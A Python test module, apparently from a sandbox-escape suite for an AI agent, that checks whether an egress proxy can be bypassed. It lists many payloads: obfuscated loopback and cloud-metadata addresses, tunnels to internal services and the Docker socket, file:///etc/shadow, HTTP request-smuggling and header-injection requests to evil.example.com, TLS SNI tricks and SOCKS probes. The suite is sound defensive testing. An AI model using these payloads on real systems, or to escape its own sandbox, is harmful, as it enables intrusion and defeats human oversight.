"""Ways past the rules of the attempt's proxy: other spellings, other requests, other names.

The agent may reach one host, `TARGETS["allowed"]`, whose server keeps what it was sent. What must
not arrive there, or anywhere else, has `TARGETS["smuggled"]` in it.
"""

import os
import socket
import ssl
from contextlib import suppress
from urllib.parse import urlsplit

from tests.support.escapes.table import TARGETS, add, attempt, found

PORT, ALLOWED, SMUGGLED = TARGETS["port"], TARGETS["allowed"], TARGETS["smuggled"]
ALLOWED_NAME, ALLOWED_PORT = ALLOWED.split(":")
PROXY = urlsplit(os.environ.get("HTTP_PROXY", "http://127.0.0.1:1"))
GATEWAY = urlsplit(os.environ.get("CELERIAC_MODEL_URL") or "http://127.0.0.1:2")
PRIVATE = f"127.0.0.1:{PORT}"
END = "\r\n\r\n"
SECONDS = 0.5


class ProxyRefusedError(OSError):
    """The proxy has answered with an error, or with nothing."""


def sent(*parts: str | bytes) -> bytes:
    """Send parts to the proxy, and return all that comes back until it is silent or closes."""
    with socket.create_connection((PROXY.hostname or "", PROXY.port or 1), 10) as connection:
        for each in parts:
            with suppress(ConnectionError):
                connection.sendall(each.encode("latin-1") if isinstance(each, str) else each)
        answer = b""
        connection.settimeout(SECONDS)
        with suppress(TimeoutError, ConnectionError):
            while chunk := connection.recv(65_536):
                answer += chunk
                if b"\r\n\r\n" in answer and b" 200 " not in answer.split(b"\r\n")[0]:
                    break
        return answer


def asked(*parts: str | bytes) -> str:
    """Send parts. Raises ProxyRefusedError unless an answer is a success."""
    answer = sent(*parts)
    line = answer.split(b"\r\n")[0].decode("latin-1")
    if b"HTTP/1.1 2" not in answer and b"HTTP/1.0 2" not in answer:
        raise ProxyRefusedError(line or "no answer")
    return line


def tunnel(target: str) -> str:
    """Ask for a tunnel."""
    return asked(f"CONNECT {target} HTTP/1.1\r\nHost: {target}{END}")


def fetched(target: str, host: str | None = None) -> str:
    """Ask for a URL."""
    host = urlsplit(target).netloc if host is None else host
    return asked(f"GET {target} HTTP/1.1\r\nHost: {host}{END}")


LOOPBACKS = (
    "127.0.0.1", "127.1", "127.0.1", "127.255.255.254", "0", "0.0.0.0", "2130706433", "0x7f000001",
    "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0x7F.1", "127.000.000.001", "localhost",
    "localhost.", "LOCALHOST", "ip6-localhost", "localhost.localdomain", "[::1]", "[::]",
    "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
    "[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[::ffff:0:127.0.0.1]",
    "[::1%lo]", "[::1%25lo]", "127.0.0.1.", "127.0.0.1%00", "127。0。0。1", "①②⑦.0.0.1",
    "%31%32%37.0.0.1", "127.0.0.1.nip.io", "localtest.me", " 127.0.0.1", "127.0.0.1\t",
    f"{ALLOWED_NAME}@127.0.0.1", f"{ALLOWED_NAME}#@127.0.0.1", f"{ALLOWED_NAME}\\@127.0.0.1",
    f"{ALLOWED_NAME}:80@127.0.0.1", f"127.0.0.1/{ALLOWED_NAME}", f"127.0.0.1?{ALLOWED_NAME}",
    f"127.0.0.1\x00.{ALLOWED_NAME}", f"127.0.0.1,{ALLOWED_NAME}",
)  # fmt: skip
METADATA = (
    "169.254.169.254", "169.254.169.254.", "2852039166", "0xa9fea9fe", "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376", "0251.254.169.254", "169.254.43518", "169.16689662",
    "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[fd00:ec2::254]",
    "[fe80::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "168.63.129.16", "100.100.100.200", "169.254.170.2",
    "192.0.0.192", "metadata.google.internal", "metadata", "instance-data",
    "metadata.example.com",
)  # fmt: skip
for name in LOOPBACKS:
    shown = name.encode("unicode_escape").decode()
    encoded = name.encode().decode("latin-1")
    add(f"proxies: a tunnel to {shown}", tunnel, f"{encoded}:{PORT}")
    add(f"proxies: a request to {shown}", fetched, f"http://{encoded}:{PORT}/{SMUGGLED}")
for name in METADATA:
    add(f"proxies: a tunnel to {name}", tunnel, f"{name}:80")
    add(f"proxies: a request to {name}", fetched, f"http://{name}/latest/meta-data/")
for title, port in TARGETS["services"].items():
    add(f"proxies: a tunnel to {title}", tunnel, f"127.0.0.1:{port}")
    add(f"proxies: a tunnel to {title} by the allowed name", tunnel, f"{ALLOWED_NAME}:{port}")
for target in (
    "evil.example.com:443", f"{TARGETS['address']}:{PORT}", f"{TARGETS['host']}:{PORT}",
    "inside.example.com:443", f"{ALLOWED_NAME}:0", f"{ALLOWED_NAME}:65536", f"{ALLOWED_NAME}:-1",
    f"{ALLOWED_NAME}:+{PORT}", ALLOWED_NAME, f"{ALLOWED_NAME}.evil.example.com:{ALLOWED_PORT}",
    f"evil.{ALLOWED_NAME}:{ALLOWED_PORT}", f"evil{ALLOWED}", f"{ALLOWED_NAME}..:{ALLOWED_PORT}",
    f"*:{ALLOWED_PORT}", f"*.example.com:{ALLOWED_PORT}", "", ":", f":{PORT}", "/", "*",
    f"{PROXY.hostname}:{PROXY.port}", f"{GATEWAY.hostname}:{GATEWAY.port}",
    "dict://127.0.0.1:11211", "unix:/var/run/docker.sock",
):  # fmt: skip
    add(f"proxies: a tunnel to '{target}'", tunnel, target)
for target in (
    f"https://{ALLOWED}/", f"ftp://{PRIVATE}/", "file:///etc/shadow", f"gopher://{PRIVATE}/_x",
    f"//{PRIVATE}/", f"http:/{PRIVATE}/", f"http:{PRIVATE}/", f"http:///{PRIVATE}/", f"/{SMUGGLED}", "*",
    f"http://user:x@{ALLOWED}/", f"http://{ALLOWED}@{PRIVATE}/", f"http://{PRIVATE}#@{ALLOWED}/",
    f"http://{ALLOWED_NAME}:{ALLOWED_PORT}:{PORT}/", f"ws://{PRIVATE}/", f"http://[{PRIVATE}]/",
    f"http://{ALLOWED}%00.{PRIVATE}/", f"http://{ALLOWED_NAME}%2f@{PRIVATE}/", "http://", "http://?",
    f"http+unix://%2Fvar%2Frun%2Fdocker.sock/{SMUGGLED}",
):  # fmt: skip
    add(f"proxies: a request to '{target}'", fetched, target, ALLOWED)

EVIL = f"http://evil.example.com/{SMUGGLED}"
SECOND = f"GET {EVIL} HTTP/1.1\r\nHost: evil.example.com{END}"
POST = f"POST http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n"
GET = f"GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n"


def smuggled(*parts: str | bytes) -> object:
    """Send requests of which the first may pass, and look for the answer to a second one."""
    answers = sent(*parts).split(b"HTTP/1.")[1:]
    passed = [each for each in answers if each[2:5] == b"200"]
    if not passed or len(passed) < 2:
        raise ProxyRefusedError("; ".join(each[:80].split(b"\r\n")[0].decode() for each in answers))
    return passed


REQUESTS = {
    "a second request for another host": (GET, "\r\n", SECOND),
    "a length and chunks": (f"{POST}Content-Length: 4\r\nTransfer-Encoding: chunked{END}0{END}", SECOND),
    "chunks and a length": (f"{POST}Transfer-Encoding: chunked\r\nContent-Length: 0{END}0{END}", SECOND),
    "two lengths": (f"{POST}Content-Length: 0\r\nContent-Length: {len(SECOND)}{END}", SECOND),
    "two lengths in one": (f"{POST}Content-Length: 0, {len(SECOND)}{END}", SECOND),
    "a length with a sign": (f"{POST}Content-Length: +0{END}", SECOND),
    "a length in hex": (f"{POST}Content-Length: 0x0{END}", SECOND),
    "a negative length": (f"{POST}Content-Length: -1{END}", SECOND),
    "a length with a blank before the colon": (f"{POST}Content-Length : 0{END}", SECOND),
    "chunks of another case": (f"{POST}Transfer-Encoding: Chunked\r\nContent-Length: 5{END}0{END}", SECOND),
    "chunks with a tab": (f"{POST}Transfer-Encoding:\tchunked\r\nContent-Length: 5{END}0{END}", SECOND),
    "chunks that are no chunks": (f"{POST}Transfer-Encoding: xchunked{END}0{END}", SECOND),
    "chunks twice": (f"{POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity{END}0{END}", SECOND),
    "chunks in a list": (f"{POST}Transfer-Encoding: identity, chunked{END}0{END}", SECOND),
    "chunks on a second line": (f"{POST}Transfer-Encoding:\r\n chunked{END}0{END}", SECOND),
    "a chunk of a negative size": (f"{POST}Transfer-Encoding: chunked{END}-1\r\n", SECOND),
    "a chunk of a size that is too large": (f"{POST}Transfer-Encoding: chunked{END}{'f' * 40}\r\n", SECOND),
    "a chunk with an extension": (f"{POST}Transfer-Encoding: chunked{END}0;\n{SECOND}\r\n{END}", SECOND),
    "a chunk of line ends alone": (f"{POST}Transfer-Encoding: chunked{END}0\n\n", SECOND),
    "a trailer with a length": (f"{POST}Transfer-Encoding: chunked{END}0\r\nContent-Length: 9{END}", SECOND),
    "a header that Connection names": (f"{POST}Connection: content-length\r\nContent-Length: {len(SECOND)}{END}", SECOND),
    "chunks that Connection names": (f"{POST}Connection: transfer-encoding\r\nTransfer-Encoding: chunked{END}0{END}", SECOND),
    "a host that Connection names": (f"{GET}Connection: host{END}",),
    "two hosts": (f"GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {SMUGGLED}.example.com{END}",),
    "another host": (f"GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {SMUGGLED}.example.com{END}",),
    "a line end in the path": (f"GET http://{ALLOWED}/\rX-{SMUGGLED}: x HTTP/1.1\r\nHost: {ALLOWED}{END}",),
    "an encoded line end in the host": (f"GET http://{ALLOWED}%0d%0aX-{SMUGGLED}:x/ HTTP/1.1\r\nHost: x{END}",),
    "a line end in a header": (f"{GET}X-A: b\rX-{SMUGGLED}: x{END}",),
    "a zero in a header": (f"{GET}X-A: b\x00{SMUGGLED}{END}",),
    "a header without a name": (f"{GET}: {SMUGGLED}{END}",),
    "an older version": (f"GET {EVIL} HTTP/0.9{END}",),
    "no version": (f"GET {EVIL}\r\n",),
    "another version": (f"PRI * HTTP/2.0{END}SM{END}",),
    "an upgrade": (f"GET http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: h2c{END}", SECOND),
    "an early tunnel": (f"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: {ALLOWED}{END}", SECOND),
    "a tunnel with a body": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x\r\nContent-Length: 3{END}abc", SECOND),
    "a tunnel in chunks": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked{END}0{END}", SECOND),
    "plain HTTP in a tunnel": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}", SECOND),
    "plain HTTP in a tunnel after a line": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}\r\n\r\n", SECOND),
    "plain HTTP in a tunnel by letters": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}", *SECOND),
    "plain HTTP of another version in a tunnel": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}", f"GET /{SMUGGLED} http/1.0{END}"),
    "HTTP/2 in a tunnel": (f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}", f"PRI * HTTP/2.0{END}SM{END}", SMUGGLED),
    "a forwarded host": (f"{GET}X-Forwarded-Host: x\r\nForwarded: host=x\r\nProxy-Authorization: Basic {SMUGGLED}{END}",),
}  # fmt: skip
for title, parts in REQUESTS.items():
    add(f"proxies: {title}", smuggled, *parts)


def _hello(name: str | None) -> bytes:
    """Return the first message of TLS that asks for a host."""
    context, outgoing = ssl.create_default_context(), ssl.MemoryBIO()
    context.check_hostname = False
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


OPENED = f"CONNECT {ALLOWED} HTTP/1.1\r\nHost: x{END}"
EVIL_HELLO = _hello(f"{SMUGGLED}.example.com")
SSL_2 = bytes((0x80, 0x2E, 1, 3, 1, 0, 0x15, 0, 0, 0, 0x10)) + SMUGGLED.encode()
TLS = {
    "a name of another host": (EVIL_HELLO,),
    "a name of another host, in pieces": tuple(EVIL_HELLO[at : at + 1] for at in range(len(EVIL_HELLO))),
    "a name of another host, in records": (
        *(EVIL_HELLO[:3] + len(part).to_bytes(2) + part
          for part in (EVIL_HELLO[5:9], EVIL_HELLO[9:60], EVIL_HELLO[60:])),
    ),
    "no name": (_hello(None),),
    "a greeting of SSL 2": (SSL_2,),
    "a greeting of SSL 2, in pieces": tuple(SSL_2[at : at + 1] for at in range(len(SSL_2))),
    "an empty record first": (EVIL_HELLO[:3] + b"\0\0" + EVIL_HELLO,),
    "an alert first": (bytes((21, 3, 1, 0, 2, 1, 0)) + EVIL_HELLO,),
}  # fmt: skip


def named(parts: tuple[bytes, ...]) -> object:
    """Open a tunnel to the allowed host, and ask its server for another one."""
    answer = sent(OPENED, *parts)
    after = answer.partition(b"\r\n\r\n")[2]
    if not after or after[0] == 21 or after.startswith(b"HTTP/1.1 4"):
        raise ProxyRefusedError(f"the tunnel said {after[:40]!r}")
    return after


for title, pieces in TLS.items():
    add(f"proxies: TLS with {title}", named, pieces)


@attempt("proxies: other ways to a proxy")
def socks() -> object:
    """SOCKS of both versions, at the same port."""
    return found([each for each in (sent(b"\x05\x01\x00"), sent(b"\x04\x01" + PORT.to_bytes(2) + b"\x7f\0\0\1\0"))
                  if each[:1] in {b"\x05", b"\x00"}])  # fmt: skip
